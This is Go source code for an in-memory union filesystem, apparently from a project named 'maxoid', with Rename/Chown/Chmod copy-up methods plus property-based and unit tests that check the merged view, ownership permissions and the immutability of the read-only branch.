func (u *Union) Rename(c vfs.Cred, oldname, newname string) error {
	_, info, err := u.resolve(oldname)
	if err != nil {
		return err
	}
	if info.IsDir() {
		return &fs.PathError{Op: "rename", Path: oldname, Err: vfs.ErrIsDir}
	}
	data, err := vfs.ReadFile(u, c, oldname)
	if err != nil {
		return err
	}
	if err := vfs.WriteFile(u, c, newname, data, info.Mode.Perm()); err != nil {
		return err
	}
	return u.Remove(c, oldname)
}

// Chown changes ownership of the writable copy of name (copy-up first).
func (u *Union) Chown(c vfs.Cred, name string, uid int) error {
	src, info, err := u.resolve(name)
	if err != nil {
		return err
	}
	if c.UID != 0 && c.UID != info.UID {
		return &fs.PathError{Op: "chown", Path: name, Err: vfs.ErrPermission}
	}
	w, ok := u.writable()
	if !ok {
		return vfs.ErrReadOnly
	}
	if src != 0 || !u.branches[0].Writable {
		if info.IsDir() {
			return &fs.PathError{Op: "chown", Path: name, Err: vfs.ErrReadOnly}
		}
		if err := u.copyUp(name, src, info, false); err != nil {
			return err
		}
	}
	return w.FS.Chown(vfs.Root, name, uid)
}

// Chmod changes the mode of the writable copy of name (copy-up first).
func (u *Union) Chmod(c vfs.Cred, name string, perm fs.FileMode) error {
	src, info, err := u.resolve(name)
	if err != nil {
		return err
	}
	if c.UID != 0 && c.UID != info.UID {
		return &fs.PathError{Op: "chmod", Path: name, Err: vfs.ErrPermission}
	}
	w, ok := u.writable()
	if !ok {
		return vfs.ErrReadOnly
	}
	if src != 0 || !u.branches[0].Writable {
		if info.IsDir() {
			return &fs.PathError{Op: "chmod", Path: name, Err: vfs.ErrReadOnly}
		}
		if err := u.copyUp(name, src, info, false); err != nil {
			return err
		}
	}
	return w.FS.Chmod(vfs.Root, name, perm)
}
