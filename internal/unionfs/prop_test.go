package unionfs

import (
	"bytes"
	"fmt"
	"math/rand"
	"testing"
	"testing/quick"

	"maxoid/internal/vfs"
)

// modelWorld pairs a union filesystem with a flat model of what the
// merged view should contain, plus a model of the read-only branch that
// must never change.
type modelWorld struct {
	disk  *vfs.FS
	union *Union
	// merged models the union view: path -> content.
	merged map[string][]byte
	// lowerBefore snapshots the read-only branch at creation.
	lowerBefore map[string][]byte
}

func newModelWorld(t *testing.T, seed int64) *modelWorld {
	t.Helper()
	disk := vfs.New()
	for _, d := range []string{"/upper", "/lower"} {
		if err := disk.MkdirAll(vfs.Root, d, 0o777); err != nil {
			t.Fatal(err)
		}
	}
	// Random initial lower-branch contents.
	r := rand.New(rand.NewSource(seed))
	merged := map[string][]byte{}
	for i := 0; i < r.Intn(8); i++ {
		name := fmt.Sprintf("/f%d", r.Intn(6))
		data := make([]byte, r.Intn(32))
		r.Read(data)
		if err := vfs.WriteFile(disk, vfs.Root, "/lower"+name, data, 0o666); err != nil {
			t.Fatal(err)
		}
		merged[name] = data
	}
	u, err := New(Options{AllowAllReads: true, AllowAllWrites: true},
		Branch{FS: vfs.Sub(disk, "/upper"), Writable: true},
		Branch{FS: vfs.Sub(disk, "/lower")},
	)
	if err != nil {
		t.Fatal(err)
	}
	lowerBefore, err := vfs.Tree(disk, vfs.Root, "/lower")
	if err != nil {
		t.Fatal(err)
	}
	return &modelWorld{disk: disk, union: u, merged: merged, lowerBefore: lowerBefore}
}

// check verifies the union view matches the model and the lower branch
// is untouched (the copy-on-write invariant).
func (w *modelWorld) check(t *testing.T, step int) {
	t.Helper()
	for name, want := range w.merged {
		got, err := vfs.ReadFile(w.union, vfs.Root, name)
		if err != nil || !bytes.Equal(got, want) {
			t.Fatalf("step %d: union %s = %q, %v; want %q", step, name, got, err, want)
		}
	}
	// Nothing extra visible.
	entries, err := w.union.ReadDir(vfs.Root, "/")
	if err != nil {
		t.Fatalf("step %d: readdir: %v", step, err)
	}
	visible := 0
	for _, e := range entries {
		if !e.IsDir() {
			visible++
		}
	}
	if visible != len(w.merged) {
		t.Fatalf("step %d: %d visible files, model has %d (%v)", step, visible, len(w.merged), entries)
	}
	// The read-only branch never changes — S2/S4's filesystem backbone.
	lowerNow, err := vfs.Tree(w.disk, vfs.Root, "/lower")
	if err != nil {
		t.Fatal(err)
	}
	if len(lowerNow) != len(w.lowerBefore) {
		t.Fatalf("step %d: lower branch file set changed", step)
	}
	for name, data := range w.lowerBefore {
		if !bytes.Equal(lowerNow[name], data) {
			t.Fatalf("step %d: lower branch file %s mutated", step, name)
		}
	}
}

// TestPropUnionMatchesModel drives random write/append/remove/recreate
// sequences against the union and a flat model; after every operation
// the merged view must match the model and the lower branch must be
// byte-identical to its snapshot.
func TestPropUnionMatchesModel(t *testing.T) {
	prop := func(seed int64) bool {
		w := newModelWorld(t, seed)
		r := rand.New(rand.NewSource(seed ^ 0x5eed))
		for step := 0; step < 40; step++ {
			name := fmt.Sprintf("/f%d", r.Intn(6))
			switch r.Intn(4) {
			case 0: // write (create or overwrite)
				data := make([]byte, r.Intn(32))
				r.Read(data)
				if err := vfs.WriteFile(w.union, vfs.Root, name, data, 0o666); err != nil {
					t.Logf("write: %v", err)
					return false
				}
				w.merged[name] = data
			case 1: // append
				if _, ok := w.merged[name]; !ok {
					continue
				}
				extra := make([]byte, 1+r.Intn(16))
				r.Read(extra)
				if err := vfs.AppendFile(w.union, vfs.Root, name, extra, 0o666); err != nil {
					t.Logf("append: %v", err)
					return false
				}
				w.merged[name] = append(append([]byte{}, w.merged[name]...), extra...)
			case 2: // remove
				if _, ok := w.merged[name]; !ok {
					continue
				}
				if err := w.union.Remove(vfs.Root, name); err != nil {
					t.Logf("remove: %v", err)
					return false
				}
				delete(w.merged, name)
			case 3: // read of a missing file must fail
				if _, ok := w.merged[name]; ok {
					continue
				}
				if _, err := vfs.ReadFile(w.union, vfs.Root, name); err == nil {
					t.Logf("read of deleted %s succeeded", name)
					return false
				}
			}
			w.check(t, step)
		}
		return true
	}
	if err := quick.Check(prop, &quick.Config{MaxCount: 25}); err != nil {
		t.Error(err)
	}
}

// TestPropRenameChains: arbitrary rename chains preserve content and
// never resurrect deleted names.
func TestPropRenameChains(t *testing.T) {
	prop := func(seed int64) bool {
		w := newModelWorld(t, seed)
		r := rand.New(rand.NewSource(seed * 31))
		for step := 0; step < 20; step++ {
			var names []string
			for n := range w.merged {
				names = append(names, n)
			}
			if len(names) == 0 {
				data := []byte{1, 2, 3}
				if err := vfs.WriteFile(w.union, vfs.Root, "/seed", data, 0o666); err != nil {
					return false
				}
				w.merged["/seed"] = data
				continue
			}
			src := names[r.Intn(len(names))]
			dst := fmt.Sprintf("/r%d", r.Intn(8))
			if src == dst {
				continue
			}
			if err := w.union.Rename(vfs.Root, src, dst); err != nil {
				t.Logf("rename %s->%s: %v", src, dst, err)
				return false
			}
			w.merged[dst] = w.merged[src]
			delete(w.merged, src)
			w.check(t, step)
		}
		return true
	}
	if err := quick.Check(prop, &quick.Config{MaxCount: 20}); err != nil {
		t.Error(err)
	}
}
