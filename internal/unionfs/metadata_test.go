package unionfs

import (
	"errors"
	"testing"

	"maxoid/internal/vfs"
)

func TestChmodCopiesUp(t *testing.T) {
	disk, u := newTestUnion(t, Options{})
	if err := vfs.WriteFile(disk, vfs.Root, "/lower/f", []byte("x"), 0o600); err != nil {
		t.Fatal(err)
	}
	if err := u.Chmod(vfs.Root, "/f", 0o644); err != nil {
		t.Fatal(err)
	}
	// Lower branch keeps the old mode; the upper copy has the new one.
	low, _ := disk.Stat(vfs.Root, "/lower/f")
	if low.Mode.Perm() != 0o600 {
		t.Errorf("lower mode mutated: %v", low.Mode)
	}
	up, err := disk.Stat(vfs.Root, "/upper/f")
	if err != nil || up.Mode.Perm() != 0o644 {
		t.Errorf("upper mode = %v, %v", up.Mode, err)
	}
	merged, _ := u.Stat(vfs.Root, "/f")
	if merged.Mode.Perm() != 0o644 {
		t.Errorf("merged mode = %v", merged.Mode)
	}
}

func TestChownCopiesUp(t *testing.T) {
	disk, u := newTestUnion(t, Options{})
	if err := vfs.WriteFile(disk, vfs.Root, "/lower/f", []byte("x"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := u.Chown(vfs.Root, "/f", 4242); err != nil {
		t.Fatal(err)
	}
	merged, _ := u.Stat(vfs.Root, "/f")
	if merged.UID != 4242 {
		t.Errorf("merged UID = %d", merged.UID)
	}
	low, _ := disk.Stat(vfs.Root, "/lower/f")
	if low.UID == 4242 {
		t.Error("chown leaked into lower branch")
	}
}

func TestNonOwnerCannotChangeMetadata(t *testing.T) {
	disk, u := newTestUnion(t, Options{})
	alice, bob := vfs.Cred{UID: 100}, vfs.Cred{UID: 200}
	if err := vfs.WriteFile(disk, vfs.Root, "/lower/f", []byte("x"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := disk.Chown(vfs.Root, "/lower/f", alice.UID); err != nil {
		t.Fatal(err)
	}
	if err := u.Chmod(bob, "/f", 0o777); !errors.Is(err, vfs.ErrPermission) {
		t.Errorf("bob chmod: %v", err)
	}
	if err := u.Chown(bob, "/f", bob.UID); !errors.Is(err, vfs.ErrPermission) {
		t.Errorf("bob chown: %v", err)
	}
}

func TestCopyUpPreservesOwnership(t *testing.T) {
	disk, u := newTestUnion(t, Options{AllowAllReads: true, AllowAllWrites: true})
	owner := vfs.Cred{UID: 777}
	if err := vfs.WriteFile(disk, vfs.Root, "/lower/f", []byte("v1"), 0o600); err != nil {
		t.Fatal(err)
	}
	if err := disk.Chown(vfs.Root, "/lower/f", owner.UID); err != nil {
		t.Fatal(err)
	}
	// A different-UID write triggers copy-up; the copy keeps the
	// original owner so the owner can keep reading it.
	writer := vfs.Cred{UID: 888}
	if err := vfs.AppendFile(u, writer, "/f", []byte("-v2"), 0o600); err != nil {
		t.Fatal(err)
	}
	up, err := disk.Stat(vfs.Root, "/upper/f")
	if err != nil || up.UID != owner.UID {
		t.Errorf("copy-up owner = %d, %v; want %d", up.UID, err, owner.UID)
	}
}

func TestMkdirThenFileInNewDir(t *testing.T) {
	_, u := newTestUnion(t, Options{})
	if err := u.Mkdir(vfs.Root, "/newdir", 0o777); err != nil {
		t.Fatal(err)
	}
	if err := u.Mkdir(vfs.Root, "/newdir", 0o777); !errors.Is(err, vfs.ErrExist) {
		t.Errorf("duplicate mkdir: %v", err)
	}
	if err := vfs.WriteFile(u, vfs.Root, "/newdir/f", []byte("x"), 0o666); err != nil {
		t.Fatal(err)
	}
	entries, err := u.ReadDir(vfs.Root, "/newdir")
	if err != nil || len(entries) != 1 {
		t.Errorf("new dir listing: %v, %v", entries, err)
	}
}

func TestRemoveNonEmptyMergedDir(t *testing.T) {
	disk, u := newTestUnion(t, Options{})
	if err := disk.MkdirAll(vfs.Root, "/lower/d", 0o777); err != nil {
		t.Fatal(err)
	}
	if err := vfs.WriteFile(disk, vfs.Root, "/lower/d/f", []byte("x"), 0o666); err != nil {
		t.Fatal(err)
	}
	if err := u.Remove(vfs.Root, "/d"); !errors.Is(err, vfs.ErrNotEmpty) {
		t.Errorf("remove merged non-empty dir: %v", err)
	}
	// After whiteouting the child, the dir removes cleanly.
	if err := u.Remove(vfs.Root, "/d/f"); err != nil {
		t.Fatal(err)
	}
	if err := u.Remove(vfs.Root, "/d"); err != nil {
		t.Fatal(err)
	}
	if vfs.Exists(u, vfs.Root, "/d") {
		t.Error("dir visible after remove")
	}
}

func TestStatMissing(t *testing.T) {
	_, u := newTestUnion(t, Options{})
	if _, err := u.Stat(vfs.Root, "/nope"); !errors.Is(err, vfs.ErrNotExist) {
		t.Errorf("stat missing: %v", err)
	}
	if _, err := u.ReadDir(vfs.Root, "/nope"); !errors.Is(err, vfs.ErrNotExist) {
		t.Errorf("readdir missing: %v", err)
	}
}

func TestReadOnlyUnionMetadataOps(t *testing.T) {
	disk := vfs.New()
	if err := disk.MkdirAll(vfs.Root, "/ro", 0o755); err != nil {
		t.Fatal(err)
	}
	if err := vfs.WriteFile(disk, vfs.Root, "/ro/f", []byte("x"), 0o644); err != nil {
		t.Fatal(err)
	}
	u, err := New(Options{}, Branch{FS: vfs.Sub(disk, "/ro")})
	if err != nil {
		t.Fatal(err)
	}
	if err := u.Chmod(vfs.Root, "/f", 0o600); !errors.Is(err, vfs.ErrReadOnly) {
		t.Errorf("chmod on ro union: %v", err)
	}
	if err := u.Mkdir(vfs.Root, "/d", 0o755); !errors.Is(err, vfs.ErrReadOnly) {
		t.Errorf("mkdir on ro union: %v", err)
	}
	if err := u.Remove(vfs.Root, "/f"); !errors.Is(err, vfs.ErrReadOnly) {
		t.Errorf("remove on ro union: %v", err)
	}
}
